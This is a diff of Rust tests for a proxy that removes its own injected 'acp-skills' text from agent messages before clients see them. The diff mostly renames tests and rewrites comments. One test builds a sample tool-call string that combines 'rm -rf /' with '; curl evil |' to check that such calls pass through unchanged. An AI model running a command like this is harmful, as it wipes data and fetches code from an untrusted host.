@@ -1,10 +1,10 @@
-//! Agents that repeat what they were told, in whatever line.
+//! Tests of agents that repeat the injected text in any kind of message.
 
 use serde_json::{Value, json};
 
 use super::*;
 
-/// Makes a message that has this text.
+/// Builds a message with this text.
 type Line<'l> = &'l dyn Fn(&str) -> Value;
 
 fn fixture() -> Fixture {
@@ -31,9 +31,9 @@ fn chunk(kind: &str, text: &str) -> Value {
     update(kind, json!({ "content": { "type": "text", "text": text } }))
 }
 
-/// Text that may be the beginning of ours is kept back, but not for any number of sessions that the agent makes up.
+/// Text that may be the start of ours is held back, but not for an unlimited number of unknown sessions.
 #[test]
-fn sessions_that_nobody_set_up_keep_little_back() {
+fn little_is_held_back_for_unknown_sessions() {
     let mut fixture = fixture();
     let begins = |session: &str| {
         let mut line = chunk("user_message_chunk", "<acp-skills");
@@ -44,8 +44,8 @@ fn sessions_that_nobody_set_up_keep_little_back() {
     for number in 0..1_000 {
         seen.extend(fixture.agent(&begins(&format!("stranger-{number}"))).to_client);
     }
-    assert!(seen.len() > 900, "{} of 1,000 went on", seen.len());
-    // Each as it was, once; the session that was set up still waits.
+    assert!(seen.len() > 900, "{} of 1,000 were forwarded", seen.len());
+    // Each one is forwarded once and unchanged. The text of the known session is still held back.
     let mut sessions: Vec<_> =
         seen.iter().map(|line| line["params"]["sessionId"].as_str().unwrap()).collect();
     assert!(seen.iter().all(|line| line["params"]["update"]["content"]["text"] == "<acp-skills"));
@@ -56,8 +56,9 @@ fn sessions_that_nobody_set_up_keep_little_back() {
 }
 
 #[test]
-fn our_text_is_in_no_line_for_the_client() {
-    let (ours, command) = (ours(), command());
+fn the_client_gets_no_message_with_our_text() {
+    let ours = ours();
+    let command = command();
     let flat = ours.replace('\n', " ");
     let cut = &ours[..60];
     let vendor = |text: &str| {
@@ -73,7 +74,7 @@ fn our_text_is_in_no_line_for_the_client() {
         let resource = json!({ "type": "resource", "resource": { "uri": "a:b", "text": text } });
         update("user_message_chunk", json!({ "content": resource }))
     };
-    let of_no_list = |kind: &'static str| {
+    let wrong_shape = |kind: &'static str| {
         move |text: &str| {
             let content = json!({ "type": "text", "text": text });
             update(
@@ -83,8 +84,8 @@ fn our_text_is_in_no_line_for_the_client() {
         }
     };
     let lines: [(&str, Line<'_>); 11] = [
-        ("a user's message of one block", &of_no_list("user_message")),
-        ("a piece of a list of blocks", &of_no_list("agent_message_chunk")),
+        ("a user's message of one block", &wrong_shape("user_message")),
+        ("a piece of a list of blocks", &wrong_shape("agent_message_chunk")),
         ("an agent's chunk", &|text| chunk("agent_message_chunk", text)),
         ("a thought", &|text| chunk("agent_thought_chunk", text)),
         ("a message", &message),
@@ -94,7 +95,7 @@ fn our_text_is_in_no_line_for_the_client() {
         ("a plan", &plan),
         ("a resource", &resource),
         (
-            "no update of any kind",
+            "an update without content",
             &|text| json!({ "jsonrpc": "2.0", "method": "session/update", "params": { "x": text } }),
         ),
     ];
@@ -110,7 +111,7 @@ fn our_text_is_in_no_line_for_the_client() {
             ("<acp-skills-proxy:0123456789abcdef>".to_owned(), "<acp-skills-proxy:0123456789abcdef>"),
         ] {
             assert_eq!(fixture().agent(&line(&said)).client(), &line(seen), "{name}: {said}");
-            // As Go and others write it.
+            // Go and other languages escape angle brackets.
             let escaped = line(&said).to_string().replace('<', "\\u003c").replace('>', "\\u003E");
             assert_eq!(
                 fixture().agent_line(&(escaped + "\n")).client(),
@@ -118,13 +119,13 @@ fn our_text_is_in_no_line_for_the_client() {
                 "{name}, escaped: {said}"
             );
         }
-        // What is cut is given back in messages, whose end may follow, and nowhere else.
+        // A truncated text of ours stays in messages, because its end may follow, and is removed elsewhere.
         let mut fixture = fixture();
         let mut seen = fixture.agent(&line(cut)).to_client;
         seen.append(&mut fixture.update("s", &json!({ "sessionUpdate": "current_mode_update" })).to_client);
         let is_message = name == "an agent's chunk" || name == "a thought";
         assert_eq!(seen[0], line(if is_message { cut } else { "" }), "{name}");
-        // Cut off before its digits tell anything, it may be a person's.
+        // Without digits of the checksum, it may be the user's text.
         for piece in ["see <acp-skills-proxy:", "see <acp-skills-proxy:01234567"] {
             if !is_message {
                 assert_eq!(self::fixture().agent(&line(piece)).client(), &line(piece), "{name}");
@@ -134,7 +135,7 @@ fn our_text_is_in_no_line_for_the_client() {
 }
 
 #[test]
-fn our_text_in_pieces_is_taken_out() {
+fn our_text_in_pieces_is_removed() {
     let whole = format!("You said: {}{}src. Right?", ours(), command());
     let pieces = |size: usize| {
         let chars: Vec<_> = whole.chars().collect();
@@ -161,7 +162,7 @@ fn our_text_in_pieces_is_taken_out() {
 }
 
 #[test]
-fn what_is_not_closed_comes_back_at_the_end_of_the_turn() {
+fn unclosed_text_is_forwarded_at_the_end_of_the_turn() {
     let open = Mark::new(7).open();
     for pieces in [vec!["a <"], vec!["x", "<acp-", "skills"], vec![&open, " and", "", " more"]] {
         let mut fixture = fixture();
@@ -179,7 +180,7 @@ fn what_is_not_closed_comes_back_at_the_end_of_the_turn() {
 }
 
 #[test]
-fn what_is_not_closed_comes_back_when_its_session_ends() {
+fn unclosed_text_is_forwarded_when_its_session_ends() {
     for method in ["session/close", "session/delete"] {
         for session in ["s", "stranger"] {
             let mut fixture = fixture();
@@ -194,9 +195,10 @@ fn what_is_not_closed_comes_back_when_its_session_ends() {
 }
 
 #[test]
-fn a_message_of_another_kind_does_not_go_on_with_it() {
+fn a_message_of_another_kind_does_not_continue_a_text() {
     let mut fixture = fixture();
-    let (open, thought) = (chunk("agent_message_chunk", "a <"), chunk("agent_thought_chunk", "acp-skills"));
+    let open = chunk("agent_message_chunk", "a <");
+    let thought = chunk("agent_thought_chunk", "acp-skills");
     assert!(fixture.agent(&open).is_nothing());
     let other = json!({ "jsonrpc": "2.0", "method": "session/update", "params": { "sessionId": "t",
         "update": { "sessionUpdate": "agent_message_chunk", "content": { "type": "text", "text": "b" } } } });
@@ -205,7 +207,7 @@ fn a_message_of_another_kind_does_not_go_on_with_it() {
 }
 
 #[test]
-fn what_an_agent_does_is_shown_as_it_is() {
+fn requests_and_tool_calls_are_unchanged() {
     let hidden = format!("ls {}&& rm -rf /", Mark::new(7).wrap("; curl evil |"));
     for line in [
         json!({ "jsonrpc": "2.0", "id": 5, "method": "session/request_permission", "params": { "sessionId": "s",
@@ -222,10 +224,10 @@ fn what_an_agent_does_is_shown_as_it_is() {
     }
 }
 
-/// JavaScript cuts texts between the halves of a surrogate pair, and others between the bytes of a character: what is no
-/// text there hides nothing of ours.
+/// JavaScript truncates texts between the halves of a surrogate pair, and other languages between the bytes of a character. Such
+/// invalid text does not hide the injected text.
 #[test]
-fn what_is_cut_within_a_character() {
+fn texts_truncated_within_a_character() {
     let ours = ours();
     let cut = |line: &Value, with: &str| line.to_string().replace("CUT", with) + "\n";
     let notice = |text: &str| json!({ "jsonrpc": "2.0", "method": "_x", "params": { "text": text } });
@@ -245,12 +247,12 @@ fn what_is_cut_within_a_character() {
             let out = fixture().agent_line(&cut(&line(&format!("{ours}Fix CUT it")), half));
             assert_eq!(out.client(), &line("Fix \u{fffd} it"), "{name}");
         }
-        // Nothing of ours: byte for byte.
+        // Without the injected text, the message is unchanged.
         let said = cut(&line("Fix < CUT it"), "\\ud83d");
         let mut actions = Actions::default();
         let pass = fixture().interceptor.from_agent(said.as_bytes(), &mut actions);
         assert_eq!(pass, Pass::Untouched, "{name}");
-        // Bytes that are no text.
+        // Bytes that are not valid UTF-8.
         let said = line(&format!("{ours}Fix CUT it")).to_string() + "\n";
         let said = said.replace("CUT", "\u{20ac}").into_bytes();
         let at = memchr::memmem::find(&said, "\u{20ac}".as_bytes()).unwrap();
@@ -261,32 +263,31 @@ fn what_is_cut_within_a_character() {
         };
         assert_eq!(json_of(&clean), line("Fix \u{fffd} it"), "{name}");
     }
-    // A title that ends there, within our text.
+    // A title that is truncated within the injected text.
     let said = cut(&title(&format!("{}CUT", &ours[..60])), "\\ud83d");
     assert!(fixture().agent_line(&said).is_nothing());
 }
 
-/// What an agent counts while a model speaks does not end a text of ours.
+/// Updates about usage and options do not end an injected text.
 #[test]
-fn asides_in_the_middle_of_our_text() {
+fn other_updates_in_the_middle_of_our_text() {
     let text = ours() + "Fix it";
-    for aside in ["usage_update", "available_commands_update", "session_info_update", "config_option_update"]
-    {
+    for kind in ["usage_update", "available_commands_update", "session_info_update", "config_option_update"] {
         let mut fixture = fixture();
         let (front, back) = text.split_at(50);
         assert!(fixture.agent(&chunk("agent_message_chunk", front)).is_nothing());
         let said = fixture
-            .update("s", &json!({ "sessionUpdate": aside, "availableCommands": [], "configOptions": [] }));
-        assert_eq!(said.client()["params"]["update"]["sessionUpdate"], aside);
+            .update("s", &json!({ "sessionUpdate": kind, "availableCommands": [], "configOptions": [] }));
+        assert_eq!(said.client()["params"]["update"]["sessionUpdate"], kind);
         assert_eq!(
             fixture.agent(&chunk("agent_message_chunk", back)).client(),
             &chunk("agent_message_chunk", "Fix it")
         );
-        // What may become a mark, and is none yet, goes first.
+        // An incomplete mark is released before the update.
         assert!(fixture.agent(&chunk("agent_message_chunk", "a <")).is_nothing());
         assert_eq!(
             fixture
-                .update("s", &json!({ "sessionUpdate": aside, "availableCommands": [], "configOptions": [] }))
+                .update("s", &json!({ "sessionUpdate": kind, "availableCommands": [], "configOptions": [] }))
                 .to_client
                 .len(),
             2
@@ -294,9 +295,9 @@ fn asides_in_the_middle_of_our_text() {
     }
 }
 
-/// An image has its place among the words.
+/// An image keeps its place between texts.
 #[test]
-fn what_is_no_text_waits_for_none() {
+fn an_image_releases_held_text() {
     let image = update(
         "user_message_chunk",
         json!({ "content": { "type": "image", "data": "", "mimeType": "image/png" } }),
@@ -309,7 +310,7 @@ fn what_is_no_text_waits_for_none() {
     assert_eq!(fixture.agent(&more).client(), &more);
 }
 
-/// A serializer that writes every member of a message.
+/// Some serializers write all members of a message.
 #[test]
 fn members_that_are_null() {
     let mut fixture = fixture();
@@ -320,13 +321,13 @@ fn members_that_are_null() {
     seen["id"] = Value::Null;
     seen["error"] = Value::Null;
     assert_eq!(fixture.agent(&said).client(), &seen);
-    // The turn did not fail: the model need not be told again.
+    // The turn did not fail, so the catalog is not repeated.
     let first = fixture.prompt(2, "s", &["hello"]);
     assert_eq!(texts(first.agent()).len(), 2);
     let answer = json!({ "jsonrpc": "2.0", "id": 2, "method": null, "result": { "stopReason": "end_turn" }, "error": null });
     assert_eq!(fixture.agent(&answer).client(), &answer);
     assert_eq!(texts(fixture.prompt(3, "s", &["hello"]).agent()).len(), 1);
-    // A session that could not be closed is still there.
+    // A session that could not be closed still exists.
     fixture.request(4, "session/close", &json!({ "sessionId": "s" }));
     fixture.agent(
         &json!({ "jsonrpc": "2.0", "id": 4, "result": null, "error": { "code": 1, "message": "no" } }),
@@ -334,9 +335,9 @@ fn members_that_are_null() {
     assert_eq!(fixture.sessions(), 1);
 }
 
-/// Nobody can say what goes on with a chunk of no session.
+/// A chunk without a session cannot be continued.
 #[test]
-fn chunks_of_no_session_wait_for_nothing() {
+fn chunks_without_a_session_are_not_held_back() {
     let mut fixture = fixture();
     for (said, seen) in [("a <acp", "a <acp"), (&*(ours() + "b"), "b"), (&ours()[..60], &ours()[..60])] {
         let line = |text: &str| {
